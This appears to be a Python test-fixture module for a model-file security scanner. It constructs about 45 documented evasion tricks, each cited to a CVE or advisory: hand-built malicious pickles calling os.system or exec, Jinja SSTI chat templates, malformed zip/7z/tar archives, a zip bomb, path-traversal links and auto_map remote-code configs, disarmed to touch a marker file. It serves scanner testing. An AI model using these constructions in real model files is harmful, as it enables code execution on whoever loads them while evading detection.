"""Files that publicly documented tricks hide code in. What they would run touches one file.

Each is made anew for a test; where it is a pickle that Python itself can load, a test loads it in
a process of its own and sees that the file was touched: these are the real thing, disarmed.
"""

import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.make_gguf import gguf
from tests.make_onnx import node, onnx, tensor
from tests.make_safetensors import safetensors

SSTI = "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}"


@dataclass
class Evasive:
    """A trick: where it is documented, and the files it is played with.

    ``live`` is the pickle in it that Python loads, None where it is for another loader. ``whole``
    says that the files are a model by themselves; else they are put beside a sound one.
    """

    name: str
    known_as: str
    files: dict[str, bytes]
    live: bytes | None = None
    whole: bool = False
    links: dict[str, str] = field(default_factory=dict)


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """Return opcodes that call ``module.name`` with what these opcodes push."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def _touch(marker: Path) -> bytes:
    return call("posix", "system", text(f"touch {marker}"))


def _plain(marker: Path) -> bytes:
    return b"\x80\x04" + _touch(marker) + b"."


def evasives(marker: Path) -> list[Evasive]:
    """Return every trick, with payloads that touch ``marker``."""
    made = [make(marker) for make in _MAKERS]
    assert len({each.name for each in made}) == len(made) >= 20
    return made


def _broken_stream(marker: Path) -> Evasive:
    data = b"\x80\x04" + _touch(marker) + b"\xff\xff broken from here"
    return Evasive("broken stream", "nullifAI, 2025", {"pytorch_model.bin": data}, data)


def _seven_zip(marker: Path) -> Evasive:
    return Evasive(
        "7z instead of zip", "nullifAI, 2025", {"model.pth": seven_zip("d.pkl", _plain(marker))}
    )


def _flag_bits(marker: Path) -> Evasive:
    data = bytearray(zipped({"archive/data.pkl": _plain(marker), "archive/version": b"3\n"}))
    for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(magic) + at] |= 1  # "encrypted"
    return Evasive("zip flag bits", "CVE-2025-1945", {"pytorch_model.bin": bytes(data)})


def _bad_crc(marker: Path) -> Evasive:
    data = bytearray(zipped({"archive/data.pkl": _plain(marker)}))
    for magic, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        place = data.index(magic) + at
        data[place : place + 4] = b"\0\0\0\0"
    return Evasive("zip with wrong CRC", "CVE-2025-10156", {"pytorch_model.bin": bytes(data)})


def _two_names(marker: Path) -> Evasive:
    data = bytearray(zipped({"archive/data.pkl": _plain(marker)}))
    place = data.index(b"PK\x03\x04") + 30
    data[place : place + 16] = b"archive/data.txt"
    return Evasive("zip with two names", "CVE-2025-1944", {"weights.dat": bytes(data)})


def _wrong_extension(marker: Path) -> Evasive:
    return Evasive(
        "pickle called .txt", "CVE-2025-1889", {"vocab.txt": _plain(marker)}, _plain(marker)
    )


def _text_pickle(marker: Path) -> Evasive:
    data = f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()
    return Evasive("pickle of letters only", "CVE-2025-10155", {"merges.txt": data}, data)


def _pip(marker: Path) -> Evasive:
    # pip installs what runs; here it lists, and writes its log to the marker.
    arguments = b"(" + text("list") + text("--log") + text(str(marker)) + b"l"
    data = b"\x80\x04" + call("pip._internal", "main", arguments) + b"."
    return Evasive("pip.main", "CVE-2025-1716", {"pytorch_model.bin": data}, data)


def _timeit(marker: Path) -> Evasive:
    code = text(f"open({str(marker)!r}, 'w')")
    data = b"\x80\x04" + call("timeit", "timeit", code, code, b"N", b"K\x01")
    data = data.replace(b"N", b"ctimeit\ndefault_timer\n", 1) + b"."
    return Evasive("timeit", "modelscan issue 272", {"model.bin": data}, data)


def _runpy(marker: Path) -> Evasive:
    path = marker.parent / "code_of_runpy.py"
    data = b"\x80\x04" + call("runpy", "run_path", text(str(path))) + b"."
    return Evasive(
        "runpy", "picklescan GHSA, 2025",
        {"model.ckpt": data, "code_of_runpy.py": f"open({str(marker)!r}, 'w')".encode()}, data,
    )  # fmt: skip


def _runstring(marker: Path) -> Evasive:
    code = text(f"open({str(marker)!r}, 'w')")
    data = b"\x80\x04" + call("numpy.testing._private.utils", "runstring", code, b"}") + b"."
    return Evasive("numpy's runstring", "CVE-2025-1945 family", {"w.pkl": data}, None)


def _profile(marker: Path) -> Evasive:
    code = text(f"open({str(marker)!r}, 'w')")
    data = b"\x80\x04" + call("cProfile", "runctx", code, b"}", b"}") + b"."
    return Evasive("cProfile", "GHSA-9w88-8rmg-7g2p", {"m.pt": data}, data)


def _idlelib(marker: Path) -> Evasive:
    code = text(f"open({str(marker)!r}, 'w')")
    data = b"\x80\x04" + call("code", "InteractiveInterpreter") + b"\x940"
    data += b"cidlelib.pyshell\nModifiedInterpreter.runcommand\n(h\x00" + code + b"tR."
    return Evasive("idlelib", "GHSA-j343-8v2j-ff7w", {"m.dill": data})


def _memo(marker: Path) -> Evasive:
    # Name and module are put away and fetched back, the wrong ones lie nearer.
    data = b"\x80\x04" + text("posix") + b"\x940" + text("system") + b"\x940"
    data += text("collections") + text("OrderedDict") + b"00"
    data += b"h\x00h\x01\x93" + b"(" + text(f"touch {marker}") + b"tR."
    return Evasive("STACK_GLOBAL by memo", "picklescan GHSA-9gvj", {"m.pickle": data}, data)


def _stacked(marker: Path) -> Evasive:
    data = pickle.dumps({"weights": [1, 2, 3]}, 4) + _plain(marker)
    return Evasive("stacked pickles", "fickling, stacked", {"pytorch_model.bin": data})


def _builtins(marker: Path) -> Evasive:
    get = b"cbuiltins\ndict.get\n(cstruct\n__builtins__\n" + text("exec") + b"tR"
    data = b"\x80\x04" + get + b"(" + text(f"open({str(marker)!r}, 'w')") + b"tR."
    return Evasive("builtins of a safe module", "modelscan issue 89", {"m.joblib": data}, data)


def _setstate(marker: Path) -> Evasive:
    # BUILD makes a harmless partial call something else.
    data = b"\x80\x04" + call("functools", "partial", b"cbuiltins\nlen\n")
    data += b"(cposix\nsystem\n)}Ntb)" + b"0"
    data = data[:-2] + b"(" + text(f"touch {marker}") + b"tR."
    return Evasive("call by __setstate__", "fickling, BUILD", {"m.pkl": data}, data)


def _nested(marker: Path) -> Evasive:
    inner = _plain(marker)
    data = b"\x80\x04" + call("_pickle", "loads", b"C" + bytes([len(inner)]) + inner) + b"."
    return Evasive("pickle in a pickle", "GHSA-84r2-jw7c-4r5q", {"m.pth": data}, data)


def _no_protocol(marker: Path) -> Evasive:
    data = _touch(marker) + b"."
    return Evasive("pickle without magic", "PyTorch's old format", {"weights.dat": data}, data)


def _object_array(marker: Path) -> Evasive:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (118 - len(head) - 1) + b"\n"
    data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + _plain(marker)
    return Evasive("array of objects", "CVE-2019-6446", {"weights.npy": data})


def _joblib(marker: Path) -> Evasive:
    data = zlib.compress(_plain(marker))
    return Evasive("compressed joblib", "arXiv 2508.19774", {"scaler.bin": data})


def _torch_script(_marker: Path) -> Evasive:
    code = b"def forward(self, x):\n  return ops.aten.save(x)\n"
    data = zipped(
        {"m/code/__torch__.py": code, "m/data.pkl": b"\x80\x02}q\x00.", "m/version": b"6"}
    )
    return Evasive("TorchScript archive", "arXiv 2508.19774", {"model_scripted.bin": data})


def _keras_lambda(_marker: Path) -> Evasive:
    layer = b'{"class_name":"Lambda","config":{"function":["4wEAAAA=",null,null]}}'
    data = zipped({"config.json": layer, "metadata.json": b"{}", "model.weights.h5": b"\x89HDF"})
    return Evasive("Keras Lambda", "CVE-2024-3660", {"classifier.dat": data})


def _keras_h5(_marker: Path) -> Evasive:
    data = b"\0" * 512 + b"\x89HDF\r\n\x1a\n" + bytes(600)
    return Evasive("HDF5 behind a user block", "CVE-2025-9905", {"weights.dat": data})


def _tail(marker: Path) -> Evasive:
    data = safetensors() + zipped({"data.pkl": _plain(marker)})
    return Evasive("safetensors with a tail", "polyglot", {"model.safetensors": data})


def _inside(marker: Path) -> Evasive:
    archive = zipped({"data.pkl": _plain(marker)})
    sound = safetensors({"model.embed_tokens.weight": ("U8", [len(archive)])})
    data = sound[: -len(archive)] + archive
    return Evasive("zip as a tensor", "polyglot", {"model.safetensors": data})


def _gguf_template(marker: Path) -> Evasive:
    data = gguf(
        {
            "general.architecture": "llama",
            "tokenizer.chat_template": SSTI.replace("MARKER", str(marker)),
        }
    )
    return Evasive("template of a GGUF", "CVE-2024-34359", {"model.gguf": data}, whole=True)


def _gguf_second(marker: Path) -> Evasive:
    data = gguf(
        {
            "general.architecture": "llama",
            "tokenizer.chat_template": "{{ messages[0].content }}",
            "tokenizer.chat_template.tool_use": SSTI.replace("MARKER", str(marker)),
        }
    )
    return Evasive("second template of a GGUF", "Pillar, 2025", {"model.gguf": data}, whole=True)


def _tokenizer_second(marker: Path) -> Evasive:
    templates = f"""{{"chat_template": [
      {{"name": "default", "template": "{{{{ messages[0].content }}}}"}},
      {{"name": "rag", "template": "{{{{ ''['__cl' ~ 'ass__'].mro() }}}}"}}], "x": "{marker}"}}"""
    return Evasive(
        "second template of a tokenizer", "Pillar, 2025",
        {"tokenizer_config.json": templates.encode()},
    )  # fmt: skip


def _spelled(_marker: Path) -> Evasive:
    data = (
        b"{% set n = namespace(a='') %}{% for c in ['_', '_', 'class', '_', '_'] %}"
        b"{% set n.a = n.a ~ c %}{% endfor %}{{ messages[0][n.a] }}"
    )
    return Evasive("a name letter by letter", "Jinja SSTI", {"chat_template.jinja": data})


def _formatted(_marker: Path) -> Evasive:
    data = b"{{ '{0.__class__.__mro__}'.format(messages) }}{{ messages|attr('x') }}"
    return Evasive("format string", "CVE-2016-10745", {"chat_template.jinja": data})


def _onnx_outside(_marker: Path) -> Evasive:
    data = onnx(tensors=(tensor("w", external="../../../../etc/passwd"),))
    return Evasive("ONNX reads outside", "CVE-2024-27318", {"model.onnx": data}, whole=True)


def _onnx_domain(_marker: Path) -> Evasive:
    data = onnx(nodes=(node("Run", "com.attacker"),), domains=("", "com.attacker"))
    return Evasive("ONNX operators as code", "custom op", {"model.onnx": data}, whole=True)


def _link(_marker: Path) -> Evasive:
    return Evasive(
        "link out of the folder", "path traversal", {}, links={"README.md": "/etc/hostname"}
    )


def _tar(marker: Path) -> Evasive:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
        inner = tarfile.TarInfo("out/../data.pkl")
        inner.size = len(_plain(marker))
        archive.addfile(inner, io.BytesIO(_plain(marker)))
    return Evasive("tar with a link", "CVE-2007-4559", {"config.json": file.getvalue()})


def _bomb(_marker: Path) -> Evasive:
    data = b"PK\x03\x04" + zlib.compress(bytes(4_000_000), 9) + zipped({"a": bytes(1_000_000)})
    return Evasive("zip bomb", "overlapping members", {"extra.txt": data})


def _remote_code(_marker: Path) -> Evasive:
    return Evasive(
        "code beside the weights", "trust_remote_code",
        {"modeling_llama.py": b"import os\n", "config.json": b'{"model_type": "llama", '
         b'"auto_map": {"AutoModel": "modeling_llama.M"}}'},
    )  # fmt: skip


def _licence_of_code(marker: Path) -> Evasive:
    code = f"import os\nos.system('touch {marker}')\n".encode()
    files = {"README.py": code, "config.json": b'{"auto_map": {"AutoModel": "README.Model"}}'}
    return Evasive("code called as a text file is", "auto_map, transformers", files)


def _code_elsewhere(_marker: Path) -> Evasive:
    told = b'{"auto_map": {"AutoTokenizer": [null, "evil/repository--module.Tokenizer"]}}'
    return Evasive("code of another repository", "auto_map, transformers", {"extra.json": told})


def _module_named(_marker: Path) -> Evasive:
    told = b'[{"idx": 0, "name": "0", "path": "x", "type": "torch.jit"}]'
    return Evasive("a module by its name", "modules.json", {"modules.json": told})


def _late_pickle(marker: Path) -> Evasive:
    data = b"S'" + b"a" * (1 << 20) + b"'\n0" + f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()
    return Evasive("pickle behind a long text", "window of a scanner", {"notes.txt": data}, data)


def _list_called(marker: Path) -> Evasive:
    data = f"cposix\nsystem\n](S'touch {marker}'\neR.".encode()
    return Evasive("pickle that calls with a list", "joblib's loader", {"notes.txt": data})


def _any_program(_marker: Path) -> Evasive:
    return Evasive(
        "program for any system", "llamafile", {"weights.bin": b"MZqFpD='\n\n" + b"#x\n" * 99}
    )


def _old_tar(marker: Path) -> Evasive:
    inner = _plain(marker)
    head = bytearray(512)
    head[:6], head[124:136], head[148:156] = b"pickle", b"%011o\0" % len(inner), b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    data = bytes(head) + inner + bytes(-len(inner) % 512 + 1024)
    return Evasive("tar without a magic", "torch.load, legacy", {"weights.onnx_data": data})


def _called_otherwise(_marker: Path) -> Evasive:
    return Evasive("safetensors called .pt", "polyglots", {"model.pt": safetensors()})


_MAKERS: tuple[Callable[[Path], Evasive], ...] = (
    _broken_stream, _seven_zip, _flag_bits, _bad_crc, _two_names, _wrong_extension, _text_pickle,
    _pip, _timeit, _runpy, _runstring, _profile, _idlelib, _memo, _stacked, _builtins, _setstate,
    _nested, _no_protocol, _object_array, _joblib, _torch_script, _keras_lambda, _keras_h5, _tail,
    _inside, _gguf_template, _gguf_second, _tokenizer_second, _spelled, _formatted, _onnx_outside,
    _onnx_domain, _link, _tar, _bomb, _remote_code, _licence_of_code, _code_elsewhere,
    _module_named, _late_pickle, _list_called, _any_program, _old_tar, _called_otherwise,
)  # fmt: skip


def zipped(files: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return file.getvalue()


def seven_zip(name: str, data: bytes) -> bytes:
    """Return a 7z archive of one file, stored: by the format's own description."""
    names = b"\0" + name.encode("utf-16-le") + b"\0\0"
    head = bytes([1, 4, 6, 0, 1, 9, len(data), 0])  # header, streams, pack info: one, its size
    head += bytes([7, 11, 1, 0, 1, 1, 0, 12, len(data), 0])  # one folder, the copy coder
    head += bytes([8, 10, 1]) + struct.pack("<I", zlib.crc32(data)) + bytes([0, 0])
    head += bytes([5, 1, 17, len(names)]) + names + bytes([0, 0])
    start = struct.pack("<QQI", len(data), len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + head


def write(trick: Evasive, folder: Path, sound: Callable[..., Any]) -> Path:
    """Write a trick's files into a folder, beside a sound model where it is none itself."""
    folder.mkdir(parents=True, exist_ok=True)
    if not trick.whole:
        sound(folder)
    for name, data in trick.files.items():
        (folder / name).write_bytes(data)
    for name, target in trick.links.items():
        (folder / name).symlink_to(target)
    return folder
